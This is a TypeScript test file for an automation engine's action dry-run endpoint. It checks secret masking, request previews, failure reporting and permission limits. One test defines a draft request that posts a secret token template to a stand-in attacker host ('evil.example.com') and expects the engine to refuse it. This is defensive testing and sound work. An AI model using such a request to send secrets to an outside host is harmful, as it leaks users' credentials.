import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { engine } from '#contract/engine/endpoints.ts'
import { ExactNumber } from '#contract/exact-number.ts'
import { roles } from '#contract/iam/roles-and-groups.ts'
import { users } from '#contract/iam/users.ts'
import type { ActionWork } from '#contract/engine/action.ts'
import type { Executors, StepRun } from '../execution.ts'
import { adminPassword, openTestPlatform, type TestPlatform } from '../../testing/test-platform.ts'

let on: TestPlatform
let token: string
let run: StepRun | undefined
const python: Executors['python'] = async (_parameters, step) => {
  run = step
  step.print(`secret ${step.secrets['token'] ?? ''}`)
  if (step.event === null) throw new Error('no event')
  return { result: await step.event.text(), rows: 1, refused: 0 }
}

beforeEach(async () => {
  run = undefined
  on = await openTestPlatform({ executors: { python } })
  token = await on.signIn()
})
afterEach(() => on.close())

const request = (url: string, body = '') => ({
  kind: 'http_request' as const,
  parameters: { method: 'POST' as const, url, headers: [], body },
})
const create = (work: object) =>
  on.request(engine.createAction, {
    body: engine.createAction.request.schema.parse({ id: 'a', name: 'A', ...work }),
    token,
  })
const check = (body: { content?: unknown; draft?: ActionWork; input?: object; steps?: object }, as = token) =>
  on.call(engine.testAction, {
    params: { action: 'a' },
    body: engine.testAction.request.schema.parse(body),
    token: as,
  })

describe('ENG20 a test of an action', () => {
  test('ENG20 shows the request that would be sent, without secrets and without sending it', async () => {
    await create({
      ...request(
        'https://api.example.com/{{ input.city | url }}',
        '{{ secrets.token }} {{ steps.load.result[0] }}',
      ),
      secrets: { token: 'canary-1' },
    })
    const steps = { load: { result: [new ExactNumber('12345678901234567890')] } }
    expect(await check({ input: { city: 'Oslo 1' }, steps })).toMatchObject({
      status: 200,
      body: {
        outcome: 'success',
        failure: null,
        effects: [
          {
            kind: 'request',
            method: 'POST',
            url: 'https://api.example.com/Oslo%201',
            body: '*** 12345678901234567890',
          },
        ],
      },
    })
    const { total } = await on.request(engine.listJobs, { token })
    expect(total).toBe(0)
  })

  test('ENG20 a draft that sends the secrets elsewhere does not get them', async () => {
    await create({ ...request('https://api.example.com/'), secrets: { token: 'canary-1' } })
    const draft = request('https://evil.example.com/', '{{ secrets.token }}')
    expect(await check({ draft })).toMatchObject({
      body: {
        outcome: 'failed',
        failure: { code: 'template_unknown', path: 'parameters.body' },
        effects: [],
      },
    })
  })

  test('ENG20 the event keeps all digits, and the log masks secrets', async () => {
    const work = { kind: 'python', parameters: { function: 'event_handle', source: '' } }
    await create({ ...work, secrets: { token: 'canary-1' } })
    const content = [{ id: new ExactNumber('12345678901234567890') }]
    expect(await check({ content })).toMatchObject({
      body: {
        outcome: 'success',
        result: '[{"id":12345678901234567890}]',
        log: [{ text: 'secret ***' }],
        effects: [],
      },
    })
    expect(run?.event?.rows).toBe(1)
    expect(run?.test).not.toBeNull()
  })

  test('ENG20 a failure is part of the answer', async () => {
    await create({ kind: 'send_email', parameters: { to: ['{{ input.to }}'], subject: 's' } })
    expect(await check({ input: { to: 'ada@x.example, bob@x.example' } })).toMatchObject({
      status: 200,
      body: { outcome: 'failed', failure: { code: 'wrong_format', path: 'parameters.to.0' } },
    })
    expect(await check({})).toMatchObject({
      body: { failure: { code: 'template_unknown', params: { name: 'input.to' } } },
    })
    expect(
      await on.call(engine.testAction, { params: { action: 'none' }, body: { content: [] }, token }),
    ).toMatchObject({ status: 404 })
  })

  test('ENG25 it may do what both the caller and the last editor may do', async () => {
    await create({ kind: 'build', parameters: { levels: ['data_prim'] } })
    expect(await check({})).toMatchObject({ body: { outcome: 'success', effects: [{ kind: 'build' }] } })
    const { id: role } = (
      await on.request(roles.create, { body: { name: 'Engine', permissions: ['dpe:*:*'] }, token })
    ).role
    const body = { login: 'ada', password: adminPassword, password_renew: false, roles: [{ role }] }
    await on.request(users.create, { body, token })
    expect(await check({}, await on.signIn('ada'))).toMatchObject({
      body: { outcome: 'failed', failure: { code: 'missing_permission' } },
    })
  })
})
